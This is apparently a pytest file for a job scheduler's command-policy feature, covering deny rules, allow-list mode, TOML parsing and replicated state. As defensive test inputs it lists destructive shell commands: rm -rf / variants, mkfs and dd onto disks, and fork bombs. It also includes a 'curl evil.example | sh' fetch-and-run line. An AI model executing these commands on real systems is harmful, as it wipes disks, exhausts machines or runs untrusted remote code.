"""The command policy: shipped deny rules, allow-list mode, the file format, replication by command."""

from __future__ import annotations

import re
import time

import pytest

from swarmcompute import codec
from swarmcompute.errors import ConfigError, PolicyViolationError
from swarmcompute.policy import parse_policy
from swarmcompute.state.job import JobSpec
from swarmcompute.state.policy import (
    ALLOW,
    DEFAULT_DENY,
    CommandPolicy,
    Rule,
    SetPolicy,
    check_policy,
    checks_problem,
    policy_problem,
    policy_toml,
)
from swarmcompute.state.snapshot import restore_table, snapshot_table
from swarmcompute.state.table import JobTable

DENIED = {
    "rm -rf /": "rm-root",
    "sudo rm -r -f /": "rm-root",
    "rm -fr /*": "rm-root",
    "rm -rf --no-preserve-root /": "rm-root",
    "rm -Rf '/'": "rm-root",
    "cd /tmp && rm -rf -- / ; ls": "rm-root",
    "rm --recursive --force /*": "rm-root",
    "rm --recursive --force /": "rm-root",
    "rm --rec /": "rm-root",
    "rm -rf /bin /*": "rm-root",
    "rm -rf ~/ /*": "rm-root",
    'rm -rf "/"*': "rm-root",
    "rm -rf /**": "rm-root",
    "rm -rf //": "rm-root",
    "rm -rf /.": "rm-root",
    "rm -rf /tmp/..": "rm-root",
    "rm -rf /*/": "rm-root",
    "cd / && rm -rf *": "rm-root",
    "cd /usr; rm -rf ../*": "rm-root",
    "/bin/rm -rf /": "rm-root",
    "sudo -u root env X=1 /usr/bin/rm -Rv /": "rm-root",
    "timeout 10 rm -rf /": "rm-root",
    "make clean\nrm -rf / >/dev/null 2>&1": "rm-root",
    "bash -c \"sh -c 'rm -rf /'\"": "rm-root",
    'ssh host "rm -rf /"': "rm-root",
    "echo $(rm -rf /)": "rm-root",
    # `rm -rf /*` typed without quotes: the submitting shell expanded it before swarm saw it
    "rm -rf /bin /boot /dev /etc /home /lib /proc /root /sbin /sys /tmp /usr /var": "rm-root",
    "rm -r /etc/ /usr/ /var/": "rm-root",
    "mkfs.ext4 /dev/sdb1": "mkfs",
    "/sbin/mkfs -t xfs /dev/nvme0n1": "mkfs",
    ":(){ :|:& };:": "fork-bomb",
    "bomb(){ bomb|bomb& };bomb": "fork-bomb",
    "dd if=/dev/zero of=/dev/sda bs=1M": "dd-to-disk",
    "cat image.iso > /dev/mmcblk0": "write-to-disk",
}
ALLOWED = [
    "rm -rf /tmp/build",
    "rm -rf ./out",
    "rm -f /",
    "ls /",
    "echo mkfsx",
    "dd if=/dev/zero of=/tmp/blob bs=1M count=1",
    "cat /dev/sda",
    "python train.py --epochs 3",
    "echo ':() {'",
    "rm -rf ./build /tmp/x",
    "rm -rf /tmp/foo/*",
    "rm -rf ~/",
    "rm -rf /.cache /.*",
    "cd /tmp && rm -rf *",
    "echo rm -rf /",  # text, not a command: it deletes nothing
    'echo "rm -rf /"',
    "printf 'rm -rf /'",
    "ls  # rm -rf /",
    'rm -rf "$DIR"/',  # what a variable holds is not known before it runs
    "rm -rf /var/tmp/x /usr/local/build",  # under them, not them
    "rm -rf /tmp /home/me/scratch",
]


@pytest.mark.parametrize("command", sorted(DENIED))
def test_the_shipped_rules_refuse_the_dangerous_commands_naming_the_rule(command: str) -> None:
    problem = CommandPolicy().problem(command)
    assert problem is not None and repr(DENIED[command]) in problem


@pytest.mark.parametrize("command", ALLOWED)
def test_the_shipped_rules_let_ordinary_commands_through(command: str) -> None:
    assert CommandPolicy().problem(command) is None


def test_a_submitted_argv_is_checked_as_typed_shell_strings_inside_too() -> None:
    with pytest.raises(PolicyViolationError, match="'rm-root'"):
        check_policy(CommandPolicy(), JobSpec(id="a", argv=("rm", "-rf", "/")))
    with pytest.raises(PolicyViolationError, match="'fork-bomb'.*swarm policy show"):
        check_policy(CommandPolicy(), JobSpec(id="b", argv=("bash", "-c", ":(){ :|:& };:")))
    check_policy(CommandPolicy(), JobSpec(id="c", argv=("rm", "-rf", "/tmp/x")))


def test_an_argv_is_refused_as_its_string_form_is_though_shell_quoting_nests_the_quotes() -> None:
    """`swarm run -- sh -c "rm -rf '/'"` reaches the policy as ``sh -c 'rm -rf '"'"'/'"'"''``,
    which the regular expression this check replaced let through while ``"rm -rf '/'"`` was refused."""
    argv = JobSpec(id="a", argv=("sh", "-c", "rm -rf '/'"))
    with pytest.raises(PolicyViolationError, match="'rm-root'"):
        check_policy(CommandPolicy(), argv)
    with pytest.raises(PolicyViolationError, match="'rm-root'"):
        check_policy(CommandPolicy(), JobSpec(id="b", argv=("/bin/sh", "-c", "rm -rf '/'")))


def test_the_rm_root_rule_is_a_built_in_check_with_the_old_regex_after_it_for_older_nodes() -> None:
    """An older node reads ``(?#check:rm-root)`` as a regex comment and searches the regex after
    it, so a rolling upgrade keeps a rule on every node; this version runs the check instead."""
    (rule,) = [r for r in DEFAULT_DENY if r.name == "rm-root"]
    assert rule.pattern.startswith("(?#check:rm-root)")
    assert re.search(rule.pattern, "rm -rf /") and not re.search(rule.pattern, "rm -rf /tmp/x")
    assert CommandPolicy(deny=(Rule("mine", "(?#check:rm-root)never-matches"),)).problem("rm -rf //") is not None


@pytest.mark.parametrize(
    ("policy", "says"),
    [
        (CommandPolicy(deny=(Rule("x", "(?#check:rm-home)rm"),)), "no built-in check 'rm-home' (there is rm-root)"),
        (CommandPolicy(ALLOW, allow=(Rule("x", "(?#check:rm-root)"),)), "a built-in check is a deny rule"),
    ],
)
def test_a_rule_naming_an_unknown_check_or_a_check_as_an_allow_rule_is_refused_where_it_is_set(
    policy: CommandPolicy, says: str
) -> None:
    assert says in (checks_problem(policy) or "")
    # not where a SetPolicy is applied: a version without checks applies it (a regex comment), so
    # this one must too, or the two would hold different policies
    assert policy_problem(policy) is None


def test_the_shipped_rules_take_linear_time_on_hostile_commands() -> None:
    """Four times the command takes about four times as long, not sixteen (quadratic backtracking
    would take minutes at a quarter of a MiB); the 1 MiB figures in state/policy.py's docstring
    scale from these. A ratio of the best of three runs each, not a time limit: a busy machine
    slows both sizes alike (a 1 s limit failed at 1.34 s under a load of 13)."""
    policy = CommandPolicy()

    def best_of_three(command: str) -> float:
        times = []
        for _ in range(3):
            started = time.perf_counter()
            policy.problem(command)
            times.append(time.perf_counter() - started)
        return min(times)

    for unit in ("a", "rm -a ", "dd ", ":", "x(){ ", "> "):
        small = best_of_three(unit * (2**16 // len(unit)))
        large = best_of_three(unit * (2**18 // len(unit)))
        assert large < 8 * small + 0.05, (unit, small, large)


def test_allow_mode_runs_only_whole_matches_and_the_deny_rules_still_apply() -> None:
    policy = parse_policy(
        """
mode = "allow"
[allow]
python = 'python3? \\S+\\.py( .*)?'
rm = 'rm .*'
"""
    )
    assert policy.mode == ALLOW and [r.name for r in policy.allow] == ["python", "rm"]
    assert policy.problem("python3 train.py --lr 0.1") is None
    assert "allow rule" in (policy.problem("curl evil.example | sh") or "")
    assert "allow rule" in (policy.problem("python train.py; curl x | sh") or "")  # a whole match, not a prefix
    assert "'rm-root'" in (policy.problem("rm -rf /") or "")  # the shipped deny rules stay unless replaced


def test_a_policy_round_trips_through_its_toml_text() -> None:
    policy = CommandPolicy(ALLOW, (Rule("v1.quote", "a'b\\d"), Rule("plain", "x")), (Rule("all", ".*"),))
    assert parse_policy(policy_toml(policy)) == policy
    assert parse_policy(policy_toml(CommandPolicy())) == CommandPolicy()
    assert parse_policy('{"mode": "deny", "deny": {"x": "y"}}') == CommandPolicy(deny=(Rule("x", "y"),))
    assert parse_policy("[deny]\n") == CommandPolicy(deny=())  # an empty table: no deny rules at all


@pytest.mark.parametrize(
    ("text", "says"),
    [
        ('mode = "maybe"', "mode must be deny or allow"),
        ("[deny]\nbad = '('", "not a regular expression"),
        ("[deny]\n'sp ace' = 'x'", "names are"),
        ("[deny]\nx = 1", "rule names to patterns"),
        ("colour = 'red'", "unknown policy key 'colour'"),
        ("mode = ", "cannot read the policy"),
    ],
)
def test_a_bad_policy_file_is_one_clear_error(text: str, says: str) -> None:
    with pytest.raises(ConfigError, match=says):
        parse_policy(text)


def test_the_policy_is_replicated_state_a_bad_one_ignored_and_kept_in_snapshots() -> None:
    table = JobTable()
    assert table.policy == CommandPolicy()
    strict = CommandPolicy(ALLOW, (), (Rule("ls", "ls( .*)?"),))
    table.apply(SetPolicy(strict, 1.0, "root"))
    assert table.policy == strict
    table.apply(SetPolicy(CommandPolicy("nonsense"), 2.0))  # checked on apply, never trusted
    assert table.policy == strict
    assert policy_problem(CommandPolicy("nonsense")) is not None
    assert restore_table(snapshot_table(table)).policy == strict
    decoded = codec.decode(codec.encode(SetPolicy(strict, 1.0, "root")))
    assert decoded == SetPolicy(strict, 1.0, "root")
